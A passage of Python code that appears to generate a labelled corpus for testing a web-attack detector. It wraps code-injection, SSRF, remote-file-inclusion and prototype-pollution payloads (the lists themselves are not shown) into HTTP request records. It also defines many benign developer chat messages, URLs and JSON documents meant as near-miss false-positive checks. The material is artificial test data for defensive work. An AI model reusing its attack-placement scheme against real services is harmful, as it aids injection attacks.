ROTATED: list[tuple[str, str, list[str], list[str]]] = [
    ("generic", "ssrf", SSRF, SSRF_PARAMS),
    ("generic", "nodejs", NODE, CODE_PARAMS),
    ("generic", "ruby", RUBY, CODE_PARAMS),
    ("generic", "perl", PERL, CODE_PARAMS),
    ("generic", "python", PYTHON, CODE_PARAMS),
    ("rfi", "rfi", RFI, RFI_PARAMS),
    ("java", "java", JAVA, CODE_PARAMS),
]


def _xml(uri: str, doc: str) -> dict[str, Any]:
    return {"method": "POST", "uri": uri, "body": doc,
            "headers": {"User-Agent": UA, "Accept": "application/json", "Content-Type": "application/xml"}}


def _raw_json(uri: str, text: str) -> dict[str, Any]:
    return {"method": "POST", "uri": uri, "body": text,
            "headers": {"User-Agent": UA, "Accept": "application/json", "Content-Type": "application/json"}}


def _raw_form(uri: str, body: str) -> dict[str, Any]:
    return {"method": "POST", "uri": uri, "body": "csrf_token=t0k3n&" + body,
            "headers": {"User-Agent": UA, "Accept": "text/html",
                        "Content-Type": "application/x-www-form-urlencoded"}}


def _json_cookie(text: str) -> dict[str, Any]:
    """A JSON document in an Express-style `j:` cookie (cookie-parser turns it into an object)."""
    return {**_get("/api/users?page=1"), "headers": {"User-Agent": UA, "Accept": "application/json",
                                                       "Cookie": "session=abc123; prefs=j:" + urllib.parse.quote(text)}}


def attacks() -> Iterator[dict[str, Any]]:
    counters: dict[str, int] = {}

    def rid(category: str) -> str:
        counters[category] = counters.get(category, 0) + 1
        return f"third-{category}-{counters[category]:04d}"

    for category, sub, payloads, params in ROTATED:
        for i, p in enumerate(payloads):
            for place, name in three_places(i, params):
                yield {**_place(place, name, p), "id": rid(category),
                       "category": category, "sub": sub, "placement": place, "payload": p}
    for i, doc in enumerate(JAVA_XML):
        yield {**_xml("/api/users", doc), "id": rid("java"), "category": "java", "sub": "java",
               "placement": "xml", "payload": doc}
        for k in (1, 2):
            place = PLACES[(i + k) % len(PLACES)]
            yield {**_place(place, CODE_PARAMS[(i + k) % len(CODE_PARAMS)], doc), "id": rid("java"),
                   "category": "java", "sub": "java", "placement": place, "payload": doc}
    for raw in POLLUTION_QS:
        qs = urllib.parse.quote(raw, safe="=&[]%()'*!:;,/$@")   # only what a client must encode (spaces, quotes)
        for place, rec in (("query", _get("/api/users?" + qs)), ("query", _get("/api/users?page=2&" + qs)),
                           ("form", _raw_form("/admin/users/search", qs))):
            yield {**rec, "id": rid("generic"), "category": "generic", "sub": "pollution", "placement": place,
                   "payload": qs}
    for text in POLLUTION_JSON:
        for place, rec in (("json", _raw_json("/api/users", text)), ("json", _raw_json("/api/users/42", text)),
                           ("cookie", _json_cookie(text))):
            yield {**rec, "id": rid("generic"), "category": "generic", "sub": "pollution", "placement": place,
                   "payload": text}


# --------------------------------------------------------------------------------------------------
# Benign. Developers in Slack (also saved as profile bios, since the same people write both).
DEV_CHAT = [
    # JavaScript / Node.js
    "heads up: `child_process.exec` buffers the whole output, for the log tailer use `spawn` and stream stdout",
    "why does the parser use `Object.create(null)` everywhere? so user keys never hit the prototype chain",
    "we lint against eval now, `no-eval` and `no-new-func` are on in the shared eslint config",
    "the `constructor` check in isPlainObject is what broke after the lodash bump",
    "new Function(...) in the formula editor goes away next sprint, the sandboxed evaluator is ready",
    "`require('fs').promises` reads nicer than util.promisify(fs.readFile) imo",
    "process.env.NODE_ENV is undefined in the worker, did someone drop the dotenv import?",
    "node 20 has --experimental-permission, we could lock the image worker out of child_process entirely",
    "use `structuredClone(obj)` instead of JSON.parse(JSON.stringify(obj)) for deep copies",
    "the merge helper now skips __proto__, constructor and prototype keys, see the PR for the test cases",
    "vm2 is deprecated, the plugin sandbox moved to isolated-vm",
    "setTimeout with a string argument is basically eval, please pass a function",
    "the webpack config has target: 'node', so the child_process fallback warning is expected",
    "`module.exports = { handler }` vs `export default` - the lambda runtime wants the former for now",
    "TIL `Array.prototype.at(-1)` works in node 16.6+",
    "someone please review the express upgrade, `res.sendFile(path.join(__dirname, 'public', 'index.html'))` "
    "changed behaviour",
    "`npm ci --ignore-scripts` in the Dockerfile, postinstall scripts were pulling random binaries",
    "the jest mock for `require('child_process')` needs `jest.mock('child_process')` at the top of the file",
    "process.on('unhandledRejection', ...) is logging but not exiting, is that intended?",
    "`const { execFile } = require('node:child_process')` - the node: prefix is the recommended style now",
    "import() is async, so the config loader has to await it before the server starts",
    "the old handlebars helpers used `this.constructor.name` for the css class, that's why it says Object",
    # Ruby
    "`User.find_by(email: params[:email])` returns nil instead of raising, that's why the 500 went away",
    "please use public_send instead of send in the serializer, send happily calls private methods",
    "Psych 4 made YAML.load safe by default, our fixtures with !ruby/object tags broke on the upgrade",
    "Marshal.load on the session cache is fine since only we write to redis, but let's sign the blobs anyway",
    "erb tip: `<%- if admin? -%>` trims the newline, plain `<% %>` leaves blank lines in the email",
    "rubocop flags Kernel#open with a variable because of the pipe behaviour, switched to File.open",
    "backticks in the rake task swallow the exit code, check `$?.success?` right after",
    "instance_variable_get(:@cache) in the spec is a smell but fine for now",
    "string interpolation like \"Hello #{user.first_name}\" only works with double quotes",
    "`bundle exec rails console -e production` - careful, that's the real database",
    "the sidekiq job retries 25 times by default, set `sidekiq_options retry: 3` for the mailer",
    "`define_method` inside `class_eval` is how the old plugin added finders, we can delete it now",
    "Open3.capture3 gives you stdout, stderr and the status, nicer than system for the pdf converter",
    "ruby 3.3 is on all app servers, the yjit flag is on in production",
    # Python
    "`subprocess.run(['git', 'rev-parse', 'HEAD'], check=True, capture_output=True)` is what the build "
    "script uses now",
    "ruff S307 (eval) and S301 (pickle) are both enabled in CI",
    "don't pickle.load the uploaded model files, we agreed on safetensors",
    "yaml.safe_load everywhere please, plain yaml.load without a Loader warns anyway",
    "from __future__ import annotations broke the pydantic v1 models, moving to v2 fixes it",
    "the __init__.py in tests/ is missing so pytest picks up the wrong conftest",
    "`python -m http.server 8000` in the dist folder is enough to preview the docs",
    "the cli forgot the `if __name__ == \"__main__\":` guard, importing it runs the export",
    "getattr(settings, 'FEATURE_X', False) is how we read optional flags",
    "os.environ.get('DATABASE_URL') returns None in the cron container, the secret isn't mounted there",
    "importlib.import_module(f'plugins.{name}') only takes names from the config file, never from requests",
    "__slots__ on the Event class saved about 30% memory in the ingest worker",
    "mro question: why does super().__init__() hit the mixin first in class Report(CsvMixin, Base)?",
    "celery beat schedule lives in celeryconfig.py now, not in the django settings",
    "`pip install -e .[dev]` then `pytest -q` should be green on main",
    "the jinja template uses `{{ user.name | e }}`, autoescape is on anyway",
    "ast.literal_eval is fine for the config tuples, it does not run code",
    "python 3.12 dropped distutils, the setup.py in the legacy exporter needs setuptools",
    # Perl
    "the old billing cron is perl: `perl -pi -e 's/\\r$//' *.csv` strips the CRLFs",
    "three-arg open please: `open(my $fh, '<', $path) or die \"can't open $path: $!\";`",
    "legacy tool calls system(\"gzip\", $file) with a list, so no shell is involved",
    "perl one-liner for the logs: `perl -ne 'print if /timeout/' access.log | wc -l`",
    "use strict; use warnings; was missing at the top of deploy.pl, that's why the typo didn't fail",
    "qw(foo bar baz) is just a list of words in perl, not a command",
    "eval { ... }; if ($@) { ... } is perl's try/catch, the mailer uses it",
    "cpanm --installdeps . fails on the build box, Mojolicious needs a newer perl",
    "the perl regex in the import script has the /x flag so the whitespace is ignored",
    # Java / JVM
    "@Value(\"${app.upload.max-size:10MB}\") falls back to the default when the env var is missing",
    "log4j-core is 2.17.2 across all services now, the Log4Shell scan report is clean",
    "spring: don't put #{systemProperties['user.timezone']} in the cron config, inject a ZoneId bean",
    "the JNDI datasource java:comp/env/jdbc/orders fails on the new tomcat, context.xml wasn't copied",
    "ObjectInputStream is gone from the session store, sessions are JSON now",
    "thymeleaf: th:text=\"${user.name}\" escapes, th:utext doesn't",
    "Runtime.getRuntime().availableProcessors() returns the host's cores on java 8 in a container, upgrade to 17",
    "jackson: activateDefaultTyping was only there for the old cache, removing it",
    "jenkins: `stage('Test') { steps { sh 'make test' } }` - no need for the groovy execute() hack any more",
    "the struts 1 admin app is finally retired 🎉",
    "${project.version} in the pom resolves at build time, not at runtime",
    "gradle: `./gradlew clean build -x test` skips tests, don't use it in the release job",
    "spring boot actuator is only exposed on the management port, /actuator/health is what the LB checks",
    "the OGNL upgrade in the reporting service is done, struts 6.3 everywhere",
    "kotlin data classes with jackson need the kotlin module registered, otherwise the constructor fails",
    "MapStruct generates the mappers at compile time, no reflection at runtime",
    # config fragments, links, versions
    "docker-compose: `DATABASE_URL=postgres://app@db:5432/app` and the db service exposes 5432",
    "the readiness probe hits /healthz on port 8080, liveness on /livez",
    "set NODE_OPTIONS=--max-old-space-size=4096 for the frontend build job",
    "grafana dashboard: https://grafana.example.com/d/abc123/api-latency?orgId=1&from=now-24h",
    ".npmrc has registry=https://registry.npmjs.org/ and the scoped one for @acme",
    "webhook for the deploy channel is configured, events go to https://hooks.slack.com/services/T061EG9R6/B07XYZ",
    "`curl -fsS https://api.example.com/healthz` returns 200 from outside",
    "bumping to 2.14.0-rc.1, changelog is in docs/CHANGELOG.md",
    "the CDN caches /static/* for a year, include the content hash in the file name",
    "terraform: `aws_lb_listener` on 443 with the ACM cert, redirect 80 to https",
    "api.example.com resolves to the new load balancer since 14:00 UTC",
    "the callback URL for the oauth app must be https://app.example.com/auth/callback exactly",
    "release 3.2.0 needs java 17 for the agent and node 20 for the dashboard",
    "the template for the welcome email lives in emails/welcome.mjml, the include for the footer too",
    "file uploads over 25 MB go to the presigned S3 URL path, not through the api",
    "semver reminder: ^1.4.2 allows 1.x, ~1.4.2 only 1.4.x",
    "the ruby, perl and python base images are rebuilt every monday",
    "can someone review https://github.com/acme/web/pull/4412 - it removes eval() from the template loader",
    "postmortem draft: https://docs.example.com/postmortems/2024-06-12-ssrf-in-image-proxy",
    "the image proxy now only fetches from an allowlist of hosts, everything else gets 403",
]

# Slack only: internal addresses and local URLs people post to colleagues, never into a profile.
CHAT_ONLY = [
    "the office printer is 10.0.0.12 if anyone needs it",
    "vpn gateway moved to 10.8.0.1, reconnect your clients",
    "staging db is on 10.0.3.17, go through the bastion",
    "run `npm start` and open http://localhost:3000",
    "the prism mock server listens on http://127.0.0.1:4010",
    "IMDSv2 is enforced now (http_tokens=required), so the old curl to 169.254.169.254 in the bootstrap script "
    "gets a 401",
    "GKE workload identity: the metadata server at metadata.google.internal answers for the pod's service account",
    "`kubectl port-forward svc/grafana 3000:80` and then http://localhost:3000",
    "my router at home is 192.168.1.1, I'll reboot it after the call",
    "from inside the container use host.docker.internal instead of localhost",
    "the jaeger UI is on http://localhost:16686 with the compose file",
    "redis in staging is redis://10.0.4.20:6379/0",
    "file:///Users/ann/Downloads/report.html opens fine locally but the CSS is missing",
    "the office ldap is ldap://ldap.corp.example.com:389, use your usual login",
    "add `127.0.0.1 api.local.test` to /etc/hosts for the local https setup",
    "nginx snippet for the new app: `location /api/ { proxy_pass http://127.0.0.1:8080; }`",
]

PUBLIC_URLS = [
    "https://github.com/acme/web/pull/4412",
    "https://nodejs.org/api/child_process.html",
    "https://nodejs.org/api/vm.html",
    "https://docs.python.org/3/library/pickle.html",
    "https://docs.python.org/3/library/subprocess.html#subprocess.run",
    "https://ruby-doc.org/3.3/Kernel.html",
    "https://perldoc.perl.org/functions/open",
    "https://logging.apache.org/log4j/2.x/security.html",
    "https://docs.spring.io/spring-framework/reference/core/expressions.html",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/Object/constructor",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Inheritance_and_the_prototype_chain",
    "https://www.example.com/blog/2024/05/template-engines-compared",
    "https://hooks.slack.com/services/T061EG9R6/B07ABCDEF12/Q1w2E3r4T5y6U7i8O9p0",
    "https://discord.com/api/webhooks/123456789012345678/abcDEF-ghiJKL",
    "https://api.example.com/v1/webhooks/stripe",
    "https://example.com/oauth/callback?code=4f2a9c&state=xyz",
    "https://www.google.com/url?q=https://example.org/docs&sa=D",
    "https://accounts.example.com/login?redirect_uri=https%3A%2F%2Fapp.example.com%2Fhome",
    "https://cdn.example.com/files/report-2024.pdf",
    "https://example.com/download?file=handbook.pdf",
    "https://example.com/docs?page=getting-started&lang=en",
    "https://shop.example.com/product/42?template=classic&include=reviews",
    "https://stackoverflow.com/questions/1098040/checking-if-a-key-exists-in-a-javascript-object",
    "https://pypi.org/project/requests/",
    "https://rubygems.org/gems/rails",
    "https://metacpan.org/pod/Mojolicious",
    "https://mvnrepository.com/artifact/org.apache.logging.log4j/log4j-core/2.17.2",
    "https://www.npmjs.com/package/lodash",
    "https://gitlab.com/acme/infra/-/blob/main/terraform/vpc.tf",
    "https://ann.dev",
    "https://www.linkedin.com/in/ann-example",
    "https://medium.com/@ann/ruby-metaprogramming-send-vs-public-send-1a2b3c",
    "https://en.wikipedia.org/wiki/Java_(programming_language)",
    "https://en.wikipedia.org/wiki/Perl",
    "https://en.wikipedia.org/wiki/Server-side_request_forgery",
    "https://owasp.org/www-community/attacks/Code_Injection",
    "https://cheatsheetseries.owasp.org/cheatsheets/Deserialization_Cheat_Sheet.html",
    "https://calendar.google.com/calendar/r?cid=abc",
    "https://zoom.us/j/98765432100?pwd=abcDEF",
    "https://docs.google.com/document/d/1AbCdEfGhIjKlMnOpQrStUvWxYz/edit",
    "https://app.example.com/reset?token=8f14e45fceea167a5a36dedd4bea2543",
    "https://status.example.com/",
    "https://api.github.com/repos/acme/web/hooks",
    "https://example.com/feed.xml",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
    "https://jsfiddle.net/ann/4kq2x7b1/",
    "https://codepen.io/ann/pen/abcXYZ",
    "https://gist.github.com/ann/0a1b2c3d4e5f",
    "https://www.dropbox.com/s/abc123/photo.jpg?dl=0",
    "https://s3.amazonaws.com/acme-public/avatars/ann.png",
    "https://storage.googleapis.com/acme-public/logo.svg",
    "https://groovy-lang.org/documentation.html",
]

# Admin search box: names, teams, companies, and IPs searched for in login history.
PROSE = [
    "ruby marshall",
    "Ruby",
    "perl",
    "Pearl Jackson",
    "java team",
    "python",
    "constructor",
    "prototype team",
    "template",
    "include inactive users",
    "system administrator",
    "exec assistant",
    "Kernel",
    "Groovy",
    "spring intern",
    "eval period ending june",
    "require approval",
    "file clerk",
    "10.0.0.12",
    "192.168.1.20",
    "api.example.com",
    "ann@example.com",
    "O'Neil",
    "process engineer",
    "Node.js developer",
    "John Pickle",
    "Joe Marshal",
    "callback requests",
    "proto team",
    "Shell Oil account",
    "Runtime Verification",
    "Groovy Gardens LLC",
    "Java House Coffee",
    "Python Software Foundation",
    "Object Computing",
    "Kernel Labs",
    "Proto Labs",
    "Template Monster",
    "System1",
    "Process Street",
    "Spring Health",
    "users who signed up via the template gallery last week",
    "who changed the webhook url for acme?",
    "accounts with two-factor disabled and role admin",
    "metadata team",
    "localhost",
    "Ruby on Rails contractors in Berlin",
    "people who logged in from 10.8.0.5",
    "Dr. Eval Montgomery",
    "import failed users",
]

# JSON API documents with the same vocabulary in keys and values.
API_DOCS: list[dict[str, Any]] = [
    {"name": "Ann", "settings": {"theme": "dark", "template": "compact"}},
    {"project": {"name": "Harbor Tower", "constructor": "Skanska USA", "architect": "Gensler"}},
    {"product": {"sku": "PCB-2", "prototype": True, "revision": "C"}},
    {"firewall_rule": {"proto": "tcp", "port": 443, "source": "0.0.0.0/0", "action": "allow"}},
    {"include": ["author", "comments.author"], "page": {"size": 25, "number": 2}},
    {"file": {"name": "invoice-0042.pdf", "size": 48213, "content_type": "application/pdf"}},
    {"path": "/reports/2024/q2", "recursive": False},
    {"url": "https://example.com/blog/post-1", "title": "Launch"},
    {"callback": "https://api.example.com/hooks/build", "events": ["push", "tag"]},
    {"callback_url": "https://hooks.example.com/a1b2c3", "secret": "whsec_4f2a9c0d"},
    {"webhook": {"url": "https://hooks.slack.com/services/T061EG9R6/B07ABCDEF12/Q1w2E3r4", "enabled": True}},
    {"function": {"name": "resize-image", "runtime": "nodejs20.x", "handler": "index.handler", "memory": 512}},
    {"function": {"name": "export-csv", "runtime": "python3.12", "handler": "app.main"}},
    {"function": {"name": "mailer", "runtime": "ruby3.3", "handler": "function.handler"}},
    {"function": {"name": "pdf-render", "runtime": "java21", "handler": "com.acme.Handler::handleRequest"}},
    {"snippet": {"language": "perl", "title": "CSV cleanup"}},
    {"dns_record": {"hostname": "api.example.com", "type": "A", "value": "203.0.113.10", "ttl": 300}},
    {"device": {"name": "Office printer", "ip": "10.0.0.12", "location": "2nd floor"}},
    {"dependencies": {"lodash": "^4.17.21", "express": "~4.19.2"}, "engines": {"node": ">=20"}},
    {"template": {"id": "tpl_welcome", "variables": {"first_name": "Ann", "company": "Acme"}}},
    {"email": {"template": "password_reset", "locale": "de-DE"}},
    {"i18n": {"lang": "pt-BR", "fallback": "en"}},
    {"module": "billing", "permissions": ["read", "write"]},
    {"page": "pricing", "section": "faq"},
    {"symbol": {"name": "Map", "kind": "class", "constructor": {"params": ["iterable"]}}},
    {"race": {"season": 2024, "round": 9, "constructor": "McLaren", "driver": "Lando Norris"}},
    {"standings": [{"constructor": "Ferrari", "points": 406}, {"constructor": "Red Bull Racing", "points": 589}]},
    {"prototype": {"id": "proto-17", "stage": "EVT", "units": 40}},
    {"upstream": {"proto": "https", "host": "api.example.com", "port": 443}},
    {"forwarded": {"proto": "https", "for": "203.0.113.50"}},
    {"file_path": "docs/guide/intro.md", "ref": "main"},
    {"include_archived": True, "path_prefix": "/teams/design"},
    {"upload": {"filename": "résumé.pdf", "path": "uploads/u42/"}},
    {"callback": "onScriptLoad"},
    {"redirect_url": "https://app.example.com/dashboard"},
    {"image_url": "https://images.example.com/u/42.png"},
    {"feed": {"url": "https://blog.example.com/rss.xml"}},
    {"sso": {"metadata_url": "https://login.microsoftonline.com/contoso.onmicrosoft.com/FederationMetadata/2007-06/"
                             "FederationMetadata.xml"}},
    {"oidc": {"issuer": "https://accounts.google.com", "jwks_uri": "https://www.googleapis.com/oauth2/v3/certs"}},
    {"ldap": {"url": "ldaps://ldap.example.com:636", "base_dn": "dc=example,dc=com"}},
    {"s3": {"bucket": "acme-exports", "region": "eu-central-1", "prefix": "exports/"}},
    {"smtp": {"host": "smtp.example.com", "port": 587, "starttls": True}},
    {"notes": "Customer asked about the Java SDK and the Ruby gem, sent links to both"},
    {"description": "Python script that exports users to CSV every night"},
    {"snippet": {"language": "javascript", "code": "const total = items.reduce((sum, i) => sum + i.price, 0);"}},
    {"tags": ["ruby", "rails", "sidekiq"]},
    {"skills": ["Java", "Spring Boot", "Groovy", "Perl", "Node.js"]},
    {"job": {"title": "Senior Python Engineer", "stack": ["Django", "Celery", "Postgres"]}},
    {"address": {"street": "1 Template Way", "city": "Springfield", "zip": "12345"}},
    {"release": {"version": "2.14.0-rc.1", "notes": "Drops Node 16; the agent requires Java 17"}},
    {"meta": {"__typename": "User"}, "id": "42"},
    {"query": "query User($id: ID!) { user(id: $id) { name email } }", "variables": {"id": "42"}},
    {"$schema": "https://json-schema.org/draft/2020-12/schema", "type": "object"},
    {"_links": {"self": {"href": "https://api.example.com/users/42"}}},
    {"import": {"source": "csv", "file": "users.csv", "mapping": {"E-mail": "email"}}},
    {"export": {"format": "json", "include": ["profile", "groups"]}},
    {"object": "event", "type": "customer.subscription.updated"},
    {"class": "premium", "prototype_id": None},
    {"notification": {"template": "{{first_name}}, your order has shipped"}},
    {"sms": {"template": "Hi ${firstName}, your code is ${code}"}},
    {"process": {"name": "onboarding", "steps": ["contract", "laptop", "accounts"]}},
    {"system": {"name": "HR", "owner": "people-ops"}},
]


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(DEV_CHAT, "third-benign")
    for text in CHAT_ONLY:
        n += 1
        yield {**slack_message(text, n), "id": f"third-benign-slack-{n:04d}", "category": "benign",
               "placement": "json"}
    n = yield from links_and_prose(PUBLIC_URLS, PROSE, "third-benign", n)
    n = yield from numbered((_json("/api/users" if i % 2 == 0 else "/api/users/42", doc)
                             for i, doc in enumerate(API_DOCS)), "third-benign-api", n, "json")


if __name__ == "__main__":
    print_records(attacks(), benign())
